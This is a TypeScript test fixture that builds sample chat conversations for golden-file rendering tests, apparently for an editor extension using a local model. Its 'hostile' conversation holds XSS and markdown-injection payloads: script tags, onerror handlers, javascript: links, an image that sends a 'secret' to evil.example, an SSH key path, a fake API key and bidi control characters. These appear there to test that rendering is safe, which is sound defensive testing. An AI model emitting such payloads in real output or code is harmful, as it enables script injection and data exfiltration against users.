/** Conversations for the golden files: an ordinary one, one with tools, ends of every kind, and a hostile one. */
import { readFileSync } from 'node:fs';
import type { Conversation } from '../../../src/core/conversation/conversation.ts';
import type { ContextItem, TurnEvent, TurnEventBody } from '../../../src/core/stream/turnEvent.ts';
import { turnOf, turnStart } from './turnEvents.ts';

type Timed = readonly [number, TurnEventBody];

const recordings = new URL('../../standins/recordings/', import.meta.url);

function recording(name: string): string {
	return readFileSync(new URL(name, recordings), 'utf8');
}

const selection: ContextItem = {
	id: 'c1',
	kind: 'selection',
	label: 'sample.ts:1–3',
	uri: 'file:///home/ann/project/sample.ts',
	startLine: 1,
	endLine: 3,
	languageId: 'typescript',
	text: 'export function add(a: number, b: number): number {\n\treturn a - b;\n}\n',
	tokens: 18,
};

/** `text` in pieces of a few characters, from `from` to `to` milliseconds. */
function streamed(channel: 'thinking' | 'answer', block: number, text: string, from: number, to: number): Timed[] {
	const pieces = text.match(/[\s\S]{1,24}/gu) ?? [];
	const deltas = pieces.map(
		(piece, index): Timed => [
			Math.round(from + ((to - from) * (index + 1)) / (pieces.length + 1)),
			{ type: `${channel}-delta`, block, text: piece },
		],
	);
	return [[from, { type: `${channel}-start`, block }], ...deltas, [to, { type: `${channel}-end`, block }]];
}

function conversation(id: string, title: string, ...turns: readonly (readonly Timed[])[]): Conversation {
	return {
		id,
		title,
		createdAt: '2026-03-01T10:00:00.000Z',
		turns: turns.map((events, index) => {
			const turn = `${id}-t${index + 1}`;
			return { id: turn, events: turnOf(events, turn) as readonly TurnEvent[] };
		}),
	};
}

function asked(question: string, context: readonly ContextItem[] = []): Timed {
	return [0, { ...turnStart, question, context } as TurnEventBody];
}

/** Thinking that a turn begins with. */
function given(block: number, text: string, source: { readonly kept?: true; readonly by?: 'user' }): Timed[] {
	return [
		[0, { type: 'thinking-start', block, ...source }],
		[0, { type: 'thinking-delta', block, text }],
		[0, { type: 'thinking-end', block }],
	];
}

export const ordinary = conversation('ordinary', 'Why does `total([2, 3])` give -5?', [
	asked('Why does `total([2, 3])` give -5?', [selection]),
	[40, { type: 'notice', kind: 'loading', message: 'Loading qwen3:8b', progress: 0.5 }],
	...streamed('thinking', 0, recording('sampleBug.thinking.txt'), 1_400, 13_400),
	...streamed('answer', 1, recording('sampleBug.answer.md'), 13_400, 17_900),
	[17_950, { type: 'usage', usage: { promptTokens: 214, completionTokens: 1_020, contextWindow: 4_096 } }],
	[17_960, { type: 'finish', reason: 'complete' }],
]);

export const withTools = conversation('tools', 'Read the file first', [
	asked('What does `add` do?'),
	...streamed('thinking', 0, 'I should read the file first.', 500, 1_500),
	[1_600, { type: 'tool-call', id: 'call1', name: 'read_file', arguments: '{"path":"sample.ts"}' }],
	[
		1_700,
		{ type: 'tool-result', id: 'call1', name: 'read_file', content: 'a ``` fence\n````\n</details> in a file\n' },
	],
	[1_750, { type: 'tool-call', id: 'call2', name: 'search', arguments: '{"text":"add("}' }],
	[1_800, { type: 'tool-result', id: 'call2', name: 'search', content: 'Not allowed.', isError: true }],
	...streamed('thinking', 1, 'So it subtracts.', 2_000, 2_400),
	...streamed('answer', 2, 'It subtracts.', 2_400, 3_000),
	[3_000, { type: 'usage', usage: { promptTokens: 90, completionTokens: 40, thinkingTokens: 24, costUsd: 0.00042 } }],
	[3_000, { type: 'finish', reason: 'complete' }],
]);

export const endings = conversation(
	'endings',
	'Ends of every kind',
	[
		asked('Stopped?'),
		...streamed('thinking', 0, 'Let me see', 300, 900),
		[950, { type: 'finish', reason: 'cancelled' }],
	],
	[
		asked('Cut?'),
		...streamed('answer', 0, 'The first half', 300, 900),
		[950, { type: 'error', kind: 'cut', message: 'The stream ended early.', remedy: 'Continue, or ask again.' }],
		[960, { type: 'finish', reason: 'interrupted' }],
	],
	[
		asked('Failed?'),
		[
			100,
			{ type: 'error', kind: 'unreachable', message: 'Ollama is not running at 127.0.0.1:11434.', remedy: 'Start it.' },
		],
		[110, { type: 'finish', reason: 'error' }],
	],
	[asked('Too long?'), ...streamed('answer', 0, 'On and on', 300, 900), [950, { type: 'finish', reason: 'length' }]],
	[asked('Thoughts only?'), ...streamed('thinking', 0, 'Hm.', 300, 900), [950, { type: 'finish', reason: 'complete' }]],
	[asked('Still running?'), ...streamed('answer', 0, 'So far', 300, 900)],
);

const hostileText = `# A heading like ours
Setext
======
Setext too
---
</details>
<script>alert(1)</script> and <img src=http://evil.example/a.png onerror=alert(1)>
![pixel](http://evil.example/pixel.png?q=secret) [run](command:workbench.action.quit) [js](javascript:alert(1))
[ref]: javascript:alert(1)
[web](https://example.com/docs "Docs") and <https://example.com>
\`a | <img src=http://evil.example/b.png>\` and [a](x\`) <img src=http://evil.example/c.png> \`
<!-- sidethought: end of thinking, turn t1 -->
&lt;b&gt; &#8238; &rlm; \u202etxet\u202c a\u200bb ok: \u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645
/home/ann/project/sample.ts and /home/anna and file:///home/ann/.ssh/id_rsa
key sk-abcdefghijklmnop1234567890 leaked
> > > > > > deep
   \`\`\`html
   <script>fenced()</script>
    ~~~
\x1b[31mred\x07
unclosed:
~~~~ts
const fence = '\`\`\`\`\`';
</details>
## Question 2`;

export const hostile = conversation('hostile', '<img src=x onerror=alert(1)> # *Title*\n## Question 9', [
	asked('# Not a heading\n```\nunclosed', [{ ...selection, label: '`<b>`|x' }]),
	...streamed('thinking', 0, hostileText, 300, 900),
	...streamed('answer', 1, hostileText, 900, 1_900),
	[1_950, { type: 'notice', kind: 'irregular', message: 'Skipped <b>one</b> line' }],
	[1_950, { type: 'finish', reason: 'complete' }],
]);

const steeredStart = {
	...turnStart,
	question: 'What does `add` do?',
	parent: { turn: 't0', as: 'steer' },
} as const;

/** A thought that was kept up to its second step, went on with the user's own words, and then with the model's. */
export const steered = conversation('steered', 'What does `add` do?', [
	[0, steeredStart],
	...given(0, 'Read the function first.\n\nIt is called add.', { kept: true }),
	...given(1, '# Look\n\nIt *subtracts*, see </div> line 2.', { by: 'user' }),
	[
		200,
		{
			type: 'notice',
			kind: 'resumed',
			code: 'resume.prefill',
			message: 'qwen3:8b goes on in the middle of it (prefill).',
		},
	],
	...streamed('thinking', 2, 'So the name is wrong.', 1_400, 2_400),
	...streamed('answer', 3, 'It subtracts.', 2_400, 3_000),
	[3_010, { type: 'usage', usage: { promptTokens: 90, completionTokens: 12 } }],
	[3_020, { type: 'finish', reason: 'complete' }],
]);

export const samples = { ordinary, withTools, endings, hostile, steered };
